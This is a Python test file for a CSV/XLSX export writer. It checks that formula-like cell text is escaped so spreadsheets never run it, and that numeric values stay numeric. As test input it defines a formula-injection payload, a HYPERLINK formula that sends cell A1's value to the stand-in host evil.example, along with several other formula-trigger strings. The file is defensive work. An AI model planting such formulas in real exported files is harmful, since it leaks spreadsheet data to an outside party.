"""The one writer of CSV and XLSX files: formula-like text never runs, numbers stay numbers."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.exports import SafeCsvWriter, safe_cell, workbook_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1", "-١٢"])
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "1e5", "Nordic Steel", "", -12.5, Decimal("-3.20"), 7, None]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_rows_are_neutralised():
    stream = io.StringIO()
    SafeCsvWriter(stream, lineterminator="\n").writerow([EVIL, "-12.50", -3])
    assert stream.getvalue().splitlines() == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-12.50,-3'
    ]


def test_xlsx_cells_hold_text_not_formulas_and_numbers_stay_numbers():
    content = workbook_bytes([("Segments", ["name", "value"], [(EVIL, Decimal("-12.50")), ("@x", 3)])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "'" + EVIL and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'@x"
